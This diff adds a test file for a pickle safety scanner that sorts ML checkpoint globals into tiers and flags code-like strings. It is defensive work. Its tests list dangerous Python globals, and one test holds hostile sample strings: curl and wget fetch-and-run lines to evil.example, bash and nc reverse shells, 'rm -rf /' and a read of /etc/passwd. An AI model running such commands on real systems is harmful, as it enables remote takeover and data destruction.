@@ -1,0 +1,245 @@
+import { test } from "node:test";
+import assert from "node:assert/strict";
+import { PyBytes, PyCall, PyDict, PyGlobal, PyList, PyTuple, type PyValue } from "../../src/formats/pickle/values.js";
+import { classifyGlobal, codeLikeReason, judgePickle, worstTier, type GlobalVerdict, type SafetyOptions } from "../../src/safety/globals.js";
+
+const tierOf = (qualname: string, options?: SafetyOptions) => {
+  const dot = qualname.lastIndexOf(".");
+  return classifyGlobal(qualname.slice(0, dot), qualname.slice(dot + 1), options).tier;
+};
+
+let offset = 0;
+const g = (module: string, name: string) => new PyGlobal(module, name, offset++);
+const call = (callee: PyValue, args: PyValue[], kind: PyCall["kind"] = "reduce") => new PyCall(callee, args, kind, offset++);
+
+/** A decoded pickle from calls: globals are collected from the callees and arguments. */
+function pickle(calls: PyCall[], extraGlobals: PyGlobal[] = [], builds: { target: PyValue; state: PyValue; offset: number }[] = []) {
+  const globals = new Set<PyGlobal>(extraGlobals);
+  const stack: PyValue[] = [...calls, ...builds.map((b) => b.target)];
+  while (stack.length > 0) {
+    const v = stack.pop();
+    if (v instanceof PyGlobal) globals.add(v);
+    if (v instanceof PyCall) stack.push(v.callee, ...v.args);
+    if (v instanceof PyTuple || v instanceof PyList) stack.push(...v.items);
+  }
+  return { globals: [...globals], calls, builds };
+}
+
+const find = (verdicts: GlobalVerdict[], qualname: string) => verdicts.find((v) => v.qualname === qualname);
+
+test("allowed: torch's weights_only list", () => {
+  for (const q of [
+    "collections.OrderedDict", "collections.Counter", "torch._utils._rebuild_tensor_v2", "torch._utils._rebuild_parameter",
+    "torch.FloatStorage", "torch.BFloat16Storage", "torch.storage.UntypedStorage", "torch.float32", "torch.uint3", "torch.int7",
+    "torch.float8_e4m3fn", "torch.Size", "torch.device", "_codecs.encode", "builtins.set", "torch.per_tensor_affine",
+    "torch._tensor._rebuild_from_type_v2", "torch.nn.parameter.Parameter", "torch.cuda.FloatTensor",
+  ]) assert.equal(tierOf(q), "allowed", q);
+  // protocol-2 aliases, normalised defensively
+  assert.equal(classifyGlobal("__builtin__", "set").tier, "allowed");
+});
+
+test("harmless: numpy, argparse, pathlib, transformers, accelerate, lightning, value types", () => {
+  for (const q of [
+    "numpy.core.multiarray._reconstruct", "numpy._core.multiarray._reconstruct", "numpy.ndarray", "numpy.dtype",
+    "numpy.core.multiarray.scalar", "numpy.dtypes.Float32DType", "argparse.Namespace", "pathlib.PosixPath",
+    "transformers.training_args.TrainingArguments", "transformers.trainer_utils.IntervalStrategy", "transformers.trainer_utils.SchedulerType",
+    "transformers.training_args.OptimizerNames", "transformers.debug_utils.DebugOption", "accelerate.utils.dataclasses.DistributedType",
+    "pytorch_lightning.utilities.parsing.AttributeDict", "lightning.fabric.utilities.data.AttributeDict", "builtins.dict", "builtins.slice",
+    "copyreg._reconstructor",
+  ]) assert.equal(tierOf(q), "harmless", q);
+  assert.equal(classifyGlobal("copy_reg", "_reconstructor").tier, "harmless");
+  assert.equal(tierOf("numpy.dtypes.Evil"), "unknown");
+});
+
+test("unknown: everything else, including torch._utils as a bare module", () => {
+  for (const q of ["scipy.sparse.csr.csr_matrix", "torch._utils", "torch.nn.functional.binary_cross_entropy", "__main__.MyModel", "posixpath.join"]) {
+    assert.equal(tierOf(q), "unknown", q);
+  }
+  assert.match(classifyGlobal("scipy.sparse.csr", "csr_matrix").reason, /--allow-global scipy\.sparse\.csr\.csr_matrix/);
+});
+
+test("unsafe: modules by dotted-component prefix, functions, attribute paths", () => {
+  for (const q of [
+    "os.system", "posix.system", "nt.system", "subprocess.Popen", "sys.modules", "builtins.eval", "builtins.exec", "builtins.compile",
+    "builtins.open", "builtins.__import__", "builtins.apply", "builtins.breakpoint", "builtins.setattr", "cProfile.run", "profile.Profile.runctx",
+    "trace.Trace.run", "code.InteractiveInterpreter.runsource", "pdb.run", "idlelib.pyshell.main", "distutils.spawn.spawn", "setuptools.sandbox.run_setup",
+    "ctypes.CDLL", "multiprocessing.Process", "asyncio.create_subprocess_shell", "operator.methodcaller", "types.CodeType", "types.FunctionType",
+    "functools.reduce", "torch.utils.bottleneck.__main__.run_cprofile", "torch.jit.load", "torch.hub.load", "numpy.testing._private.utils.runstring",
+    "numpy.f2py.compile", "shutil.rmtree", "webbrowser.open", "torch.fx.graph_module.reduce_graph_module", "torch.storage._load_from_bytes",
+  ]) assert.equal(tierOf(q), "unsafe", q);
+  assert.equal(tierOf("torch._inductor.codecache.compile_file"), "unsafe");
+  assert.match(classifyGlobal("torch._inductor.codecache", "compile_file").reason, /^torch\._inductor:/);
+  assert.equal(tierOf("torch._inductor_helpers.x"), "unknown"); // components, not string prefixes
+  assert.equal(tierOf("ossify.system"), "unknown");
+  // STACK_GLOBAL attribute paths that walk into a dangerous module or internals
+  assert.equal(classifyGlobal("torch", "os.system").tier, "unsafe");
+  assert.equal(classifyGlobal("torch._utils", "sys").tier, "unsafe");
+  assert.equal(classifyGlobal("collections", "OrderedDict.__init__").tier, "unsafe");
+  assert.equal(classifyGlobal("pathlib", "Path.unlink").tier, "unsafe");
+  assert.equal(classifyGlobal("mylib.metrics", "trace").tier, "unknown"); // a function named like a module is not one
+});
+
+test("the globals picklescan's malicious files use are unsafe; the benign ones are not", () => {
+  const malicious: [string, string][] = [
+    ["bdb", "Bdb.run"], ["bdb", "Bdb"], ["venv", "create"], ["pydoc", "pipepager"], ["torch._inductor.codecache", "compile_file"],
+    ["functools", "partial"], ["torch.serialization", "load"], ["requests.api", "get"], ["aiohttp.client", "ClientSession"],
+    ["httplib", "HTTPSConnection"], ["_pickle", "loads"], ["pickle", "loads"], ["runpy", "_run_code"], ["sys", "exit"], ["pip", "main"],
+    ["operator", "attrgetter"], ["socket", "create_connection"], ["subprocess", "run"], ["os", "system"], ["posix", "system"],
+    ["__builtin__", "eval"], ["__builtin__", "exec"], ["__builtin__", "apply"], ["__builtin__", "globals"], ["__builtin__", "compile"],
+    ["__builtin__", "getattr"], ["builtins", "__import__"],
+  ];
+  for (const [m, n] of malicious) assert.equal(classifyGlobal(m, n).tier, "unsafe", `${m}.${n}`);
+  for (const q of ["numpy.core.multiarray._reconstruct", "argparse.Namespace", "collections.OrderedDict", "torch._utils._rebuild_tensor_v2", "torch.FloatStorage"]) {
+    assert.notEqual(tierOf(q), "unsafe", q);
+  }
+});
+
+test("allowGlobals adds to the harmless tier but cannot override the unsafe list", () => {
+  const opts = { allowGlobals: ["scipy.sparse.csr.csr_matrix", "os.system", "__builtin__.myfunc"] };
+  assert.deepEqual(classifyGlobal("scipy.sparse.csr", "csr_matrix", opts), { tier: "harmless", reason: "allowed with --allow-global" });
+  assert.equal(classifyGlobal("os", "system", opts).tier, "unsafe");
+  assert.equal(classifyGlobal("builtins", "myfunc", opts).tier, "harmless");
+  assert.equal(classifyGlobal("scipy.sparse", "csr.csr_matrix", opts).tier, "harmless"); // the same qualname split differently
+});
+
+test("getattr on a trusted class with a plain name is harmless (enum members)", () => {
+  const getattr = g("builtins", "getattr");
+  const steps = call(getattr, [g("transformers.trainer_utils", "IntervalStrategy"), "STEPS"]);
+  const linear = call(getattr, [g("transformers.trainer_utils", "SchedulerType"), "LINEAR"]);
+  const args = call(g("transformers.training_args", "TrainingArguments"), [], "newobj");
+  const verdicts = judgePickle(pickle([steps, linear, args]));
+  assert.equal(find(verdicts, "builtins.getattr")!.tier, "harmless");
+  assert.equal(find(verdicts, "builtins.getattr")!.count, 1);
+  assert.ok(verdicts.every((v) => v.tier === "harmless"), JSON.stringify(verdicts));
+  assert.equal(worstTier(verdicts), "harmless");
+  // ... and a user's own enum becomes harmless with --allow-global
+  const mine = judgePickle(pickle([call(g("builtins", "getattr"), [g("myproj.config", "Mode"), "TRAIN"])]), { allowGlobals: ["myproj.config.Mode"] });
+  assert.equal(worstTier(mine), "harmless");
+});
+
+test("getattr on anything else is unsafe and names both sides", () => {
+  const cases: [PyValue[], RegExp][] = [
+    [[g("posix", "__dict__"), "system"], /posix\.__dict__/],
+    [[g("posix", "system"), "x"], /unsafe/],
+    [[g("myproj.config", "Mode"), "TRAIN"], /not a known class/],
+    [[call(g("builtins", "dict"), []), "items"], /result of another call/],
+    [[g("argparse", "Namespace"), "__init__"], /non-plain name/],
+    [[g("argparse", "Namespace"), "a b"], /non-plain name/],
+    [[g("argparse", "Namespace"), 3], /non-string/],
+  ];
+  for (const [args, reason] of cases) {
+    const c = call(g("builtins", "getattr"), args);
+    const verdicts = judgePickle(pickle([c]));
+    const v = verdicts.find((x) => x.qualname.startsWith("builtins.getattr("));
+    assert.ok(v, JSON.stringify(verdicts));
+    assert.equal(v.tier, "unsafe");
+    assert.match(v.reason, reason);
+    assert.equal(find(verdicts, "builtins.getattr")!.tier, "unsafe");
+  }
+  const v = judgePickle(pickle([call(g("builtins", "getattr"), [g("posix", "system"), "x"])]));
+  assert.ok(find(v, "builtins.getattr(posix.system, 'x')"));
+  // referenced, never called: unsafe
+  assert.equal(judgePickle(pickle([], [g("__builtin__", "getattr")]))[0]!.tier, "unsafe");
+});
+
+test("calling what getattr returned is judged as the attribute (malicious15a: getattr(bdb.Bdb, 'run')(...))", () => {
+  const bound = call(g("builtins", "getattr"), [g("pathlib", "Path"), "write_text"]);
+  const verdicts = judgePickle(pickle([bound, call(bound, ["pwned"])]));
+  assert.equal(find(verdicts, "pathlib.Path.write_text")!.tier, "unsafe");
+  const other = judgePickle(pickle([call(call(g("builtins", "dict"), []), [])]));
+  assert.equal(worstTier(other), "unsafe");
+});
+
+test("functools.partial is as safe as the function it wraps", () => {
+  const bad = judgePickle(pickle([call(g("functools", "partial"), [g("torch.serialization", "load"), "x.pt"])]));
+  assert.equal(find(bad, "functools.partial")!.tier, "unsafe");
+  assert.ok(bad.some((v) => v.qualname === "functools.partial(torch.serialization.load, ...)" && v.tier === "unsafe"));
+  const good = judgePickle(pickle([call(g("functools", "partial"), [g("torch._utils", "_rebuild_tensor_v2")])]));
+  assert.equal(find(good, "functools.partial")!.tier, "harmless");
+  // a pickled partial also carries its function in the BUILD state
+  const sneaky = call(g("functools", "partial"), [g("builtins", "dict")]);
+  sneaky.state = new PyTuple([g("posix", "system"), new PyTuple([]), null, null]);
+  assert.equal(find(judgePickle(pickle([sneaky])), "functools.partial")!.tier, "unsafe");
+});
+
+test("copyreg._reconstructor is judged by the class it builds", () => {
+  const rec = (cls: PyGlobal) => call(g("copyreg", "_reconstructor"), [cls, g("builtins", "object"), null]);
+  assert.equal(worstTier(judgePickle(pickle([rec(g("argparse", "Namespace"))]))), "harmless");
+  const unknown = judgePickle(pickle([rec(g("scipy.sparse.csr", "csr_matrix"))]));
+  assert.equal(find(unknown, "copyreg._reconstructor")!.tier, "harmless"); // the class carries the warning, once
+  assert.equal(find(unknown, "scipy.sparse.csr.csr_matrix")!.tier, "unknown");
+  assert.equal(worstTier(unknown), "unknown");
+  const evil = judgePickle(pickle([rec(g("subprocess", "Popen"))]));
+  assert.equal(find(evil, "copyreg._reconstructor")!.tier, "unsafe");
+});
+
+test("BUILD on a global is unsafe (sys_module_override_sploit.pkl)", () => {
+  const mod = g("torch", "_utils");
+  const verdicts = judgePickle(pickle([], [mod], [{ target: mod, state: new PyDict(), offset: 99 }]));
+  // folded into the global's own verdict: one verdict per name, at the worse tier
+  const v = verdicts.filter((x) => x.qualname === "torch._utils");
+  assert.equal(v.length, 1);
+  assert.equal(v[0]!.tier, "unsafe");
+  assert.match(v[0]!.reason, /^BUILD sets attributes .* \(and: not on the allow-list/);
+});
+
+test("code-like strings: Python source and shell commands are caught", () => {
+  for (const s of [
+    "__import__('os').system('id')", "os.system('ls')", "import os; os.system('x')", "import os", "from os import system",
+    "exec(base64.b64decode('aW1wb3J0IG9z'))", "eval('1+1')", "subprocess.run(['id'])", "().__class__.__bases__[0].__subclasses__()",
+    "curl http://evil.example/x.sh | bash", "rm -rf /", "/bin/sh -c id", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "echo pwned; id",
+    "wget https://evil.example/y -O /tmp/y && chmod +x /tmp/y && /tmp/y", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
+    "nc -e /bin/sh 1.2.3.4 4444", 'fl=open("/etc/passwd");picklesmashed=fl.read();', "powershell -enc AAAA", "cmd.exe /c whoami", "cd /tmp && wget http://x/y",
+  ]) assert.ok(codeLikeReason(s), s);
+  assert.match(codeLikeReason("rm -rf /home")!, /shell command: 'rm -rf \/home'/);
+  assert.match(codeLikeReason("import os")!, /Python source/);
+});
+
+test("code-like strings: ordinary checkpoint strings are not", () => {
+  for (const s of [
+    "cosine_with_restarts", "linear", "steps", "epoch", "adamw_torch", "eval_loss", "evaluation_strategy", "model.eval()", "torch.compile",
+    "/home/user/output/checkpoint-500", "runs/May01_10-00-00_host", "python train.py --lr 3e-4 --epochs 10",
+    "python -m torch.distributed.run --nproc_per_node 8 train.py", "cat", "cat dog; bird", "cat|dog|bird", "rm", "bash", "echo",
+    "C:\\Users\\me\\out;D:\\data", "The model was trained with care; results vary", "a | b", "from_pretrained", "import_path",
+    "torch.optim.AdamW", "os.path.join", "subprocesses", "no", "cuda:0", "important: import the data first", "sh", "nc", "open", "reopen the file", "file.open(mode)",
+    "\u0000\u0001;id x\nls y\u0002", // binary payloads carried as latin-1 text
+  ]) assert.equal(codeLikeReason(s), undefined, s);
+});
+
+test("a call with a code-like argument is unsafe whatever the callee", () => {
+  const c = call(g("mylib.utils", "helper"), [new PyTuple([new PyList(["ok", new PyDict()]), "curl http://evil.example | sh"])]);
+  const verdicts = judgePickle(pickle([c]));
+  const v = verdicts.find((x) => x.tier === "unsafe");
+  assert.ok(v);
+  assert.equal(v.qualname, "mylib.utils.helper");
+  assert.match(v.reason, /shell command: 'curl http:\/\/evil\.example \| sh'/);
+  // keyword arguments, BUILD state and bytes are scanned too
+  const built = call(g("argparse", "Namespace"), [], "newobj");
+  const state = new PyDict();
+  state.set("cmd", "import os; os.system('id')");
+  assert.equal(worstTier(judgePickle(pickle([built], [], [{ target: built, state, offset: 5 }]))), "unsafe");
+  assert.equal(worstTier(judgePickle(pickle([call(g("mylib", "f"), [new PyBytes(new TextEncoder().encode("__import__('os')"))])]))), "unsafe");
+});
+
+test("benign calls stay benign; verdicts are counted and deduplicated", () => {
+  const storage = g("torch", "FloatStorage");
+  const rebuild = g("torch._utils", "_rebuild_tensor_v2");
+  const calls = [call(rebuild, [storage, 0, new PyTuple([2, 2]), new PyTuple([2, 1]), false, new PyDict()]), call(rebuild, [storage, 4, new PyTuple([2]), new PyTuple([1]), false, new PyDict()])];
+  const p = pickle(calls);
+  p.globals.push(new PyGlobal("torch._utils", "_rebuild_tensor_v2", 1000)); // a second GLOBAL opcode for the same name
+  const verdicts = judgePickle(p);
+  assert.equal(find(verdicts, "torch._utils._rebuild_tensor_v2")!.count, 2);
+  assert.equal(worstTier(verdicts), "allowed");
+  assert.equal(worstTier([]), undefined);
+});
+
+test("argument scanning is iterative and bounded", () => {
+  let deep: PyValue = "rm -rf /";
+  for (let i = 0; i < 100_000; i++) deep = new PyList([deep]);
+  assert.equal(worstTier(judgePickle(pickle([call(g("mylib", "f"), [deep])]))), "unsafe");
+  const shared = new PyList(Array.from({ length: 10_000 }, (_, i) => `value ${i}`));
+  const many = Array.from({ length: 2_000 }, () => call(g("argparse", "Namespace"), [shared]));
+  const t0 = Date.now();
+  assert.equal(worstTier(judgePickle(pickle(many))), "harmless");
+  assert.ok(Date.now() - t0 < 2000, `shared arguments walked repeatedly: ${Date.now() - t0} ms`);
+});
